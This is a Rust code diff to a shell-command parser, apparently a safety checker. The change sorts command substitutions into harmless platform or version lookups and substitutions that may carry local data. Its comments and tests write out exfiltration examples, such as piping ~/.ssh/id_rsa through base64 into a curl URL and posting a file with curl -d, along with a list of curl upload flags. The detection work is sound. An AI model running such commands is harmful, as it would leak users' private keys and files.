@@ -355,7 +355,7 @@ impl Parser<'_> {
         // Process substitution `<(…)` / `>(…)`.
         if self.peek() == Some('(') && fd.is_none() {
             self.pos += 1;
-            self.substitution();
+            let _ = self.substitution();
             return;
         }
         while let Some(c) = self.peek() {
@@ -480,21 +480,24 @@ impl Parser<'_> {
 
     /// Parse a backtick body (already cut out) one level deeper; its
     /// assignments do not leak out.
-    fn nested(&mut self, inner: &str) {
+    fn nested(&mut self, inner: &str) -> &'static str {
         let mark = self.vars.undo.len();
+        let before = self.out.commands.len();
         parse_into(inner, self.depth + 1, self.out, self.vars);
         self.vars.rollback(mark);
+        substitution_marker(&self.out.commands[before..])
     }
 
     /// Parse a `$(…)` / `<(…)` body in place, its `(` already read: the
     /// commands up to the matching `)`, one level deeper. Past the nesting
     /// limit the body is skipped (read once, not parsed) and reported.
-    fn substitution(&mut self) {
+    fn substitution(&mut self) -> &'static str {
         if self.depth >= MAX_DEPTH {
             self.out.problems.push("nesting too deep".into());
             let _ = self.until_close_paren();
-            return;
+            return SUBSTITUTION;
         }
+        let before = self.out.commands.len();
         let mark = self.vars.undo.len();
         let outer_heredocs = std::mem::take(&mut self.pending_heredocs);
         self.depth += 1;
@@ -505,6 +508,7 @@ impl Parser<'_> {
         if !closed {
             self.out.problems.push("unterminated `$(`".into());
         }
+        substitution_marker(&self.out.commands[before..])
     }
 
     /// Read one word with quote removal, substitution of known variables and
@@ -554,8 +558,8 @@ impl Parser<'_> {
                     if !closed {
                         self.out.problems.push("unterminated backtick".into());
                     }
-                    self.nested(&inner);
-                    w.push_str("$(…)");
+                    let marker = self.nested(&inner);
+                    w.push_str(marker);
                     any = true;
                 }
                 '$' => {
@@ -594,8 +598,8 @@ impl Parser<'_> {
                 '$' => self.dollar(w),
                 '`' => {
                     let (inner, _) = self.backtick_body();
-                    self.nested(&inner);
-                    w.push_str("$(…)");
+                    let marker = self.nested(&inner);
+                    w.push_str(marker);
                 }
                 _ => {
                     self.pos += 1;
@@ -623,8 +627,8 @@ impl Parser<'_> {
                     w.push_str("))");
                     return;
                 }
-                self.substitution();
-                w.push_str("$(…)");
+                let marker = self.substitution();
+                w.push_str(marker);
             }
             Some('{') => {
                 self.pos += 1;
@@ -727,6 +731,73 @@ impl Parser<'_> {
     }
 }
 
+/// What a command substitution leaves in a word: its output is unknown and
+/// may carry local data (`$(cat ~/.ssh/id_rsa)`).
+pub(crate) const SUBSTITUTION: &str = "$(…)";
+/// What a substitution whose commands only describe the machine or fetch
+/// something (`$(uname -m)`, `$(lsb_release -cs)`, `$(curl -s …/stable.txt)`)
+/// leaves in a word: still unknown text, but not local data.
+pub(crate) const HARMLESS_SUBSTITUTION: &str = "$(:)";
+
+/// The marker for a substitution made of these commands.
+fn substitution_marker(cmds: &[SimpleCommand]) -> &'static str {
+    if !cmds.is_empty() && cmds.len() <= 8 && cmds.iter().all(harmless_in_substitution) {
+        HARMLESS_SUBSTITUTION
+    } else {
+        SUBSTITUTION
+    }
+}
+
+/// Commands whose output names the platform, a version or a downloaded
+/// value rather than local data: the usual parts of an installer URL.
+fn harmless_in_substitution(cmd: &SimpleCommand) -> bool {
+    let Some(first) = cmd.words.first() else {
+        return false;
+    };
+    let name = first.rsplit('/').next().unwrap_or(first);
+    let args = &cmd.words[1..];
+    if args.iter().any(|a| a.contains(SUBSTITUTION)) {
+        return false;
+    }
+    let no_input_redirect = cmd.redirects.iter().all(|r| !r.op.contains('<'));
+    match name {
+        "uname" | "arch" | "date" | "lsb_release" | "dpkg-architecture" | "nproc" | "getconf"
+        | "which" | "type" => no_input_redirect,
+        "dpkg" => args.iter().all(|a| a == "--print-architecture"),
+        "command" => args.first().is_some_and(|a| a == "-v"),
+        "id" => args
+            .iter()
+            .all(|a| matches!(a.as_str(), "-u" | "-g" | "-un" | "-gn" | "-ru")),
+        "git" => args
+            .first()
+            .is_some_and(|a| matches!(a.as_str(), "rev-parse" | "describe" | "symbolic-ref")),
+        "tr" | "cut" | "sed" | "awk" | "head" | "tail" | "grep" | "sort" | "xargs" | "jq" => {
+            cmd.stdin == Stdin::Pipe && no_input_redirect
+        }
+        "curl" | "wget" => {
+            no_input_redirect
+                && cmd.stdin == Stdin::Inherited
+                && !args.iter().any(|a| {
+                    let a = a.as_str();
+                    a.starts_with("--data")
+                        || a.starts_with("--form")
+                        || a.starts_with("--upload")
+                        || a.starts_with("--post")
+                        || a.starts_with("--body")
+                        || a.starts_with("--json")
+                        || a.starts_with("--request")
+                        || a.starts_with("--method")
+                        || a.starts_with("-K")
+                        || a.starts_with("--config")
+                        || (a.starts_with('-')
+                            && !a.starts_with("--")
+                            && a.contains(['d', 'F', 'T', 'X', 'K']))
+                })
+        }
+        _ => false,
+    }
+}
+
 /// Marks where an unset `$IFS` splits a word (`curl${IFS}-d…`).
 const FIELD_SPLIT: char = '\u{1F}';
 /// Aliases live in the variable map under this prefix (not a valid name).
@@ -825,6 +896,17 @@ mod tests {
         let p = parse("curl -d 'unterminated https://x");
         assert!(!p.problems.is_empty());
         assert_eq!(p.commands[0].words[0], "curl");
+    }
+
+    #[test]
+    fn substitutions_describing_the_platform_are_marked_harmless() {
+        let w = words("curl -LO https://x.example/t-$(uname -s | tr A-Z a-z)-`arch`");
+        assert_eq!(w.last().unwrap()[2], "https://x.example/t-$(:)-$(:)");
+        let w = words("curl https://x.example/$(cat ~/.ssh/id_rsa | base64)");
+        assert_eq!(w.last().unwrap()[1], "https://x.example/$(…)");
+        // A filter reading a file, or a download that posts, is not harmless.
+        let w = words("echo $(tr -d x < secrets.txt) $(curl -d @f https://y.example)");
+        assert_eq!(w.last().unwrap()[1..], ["$(…)", "$(…)"]);
     }
 
     #[test]
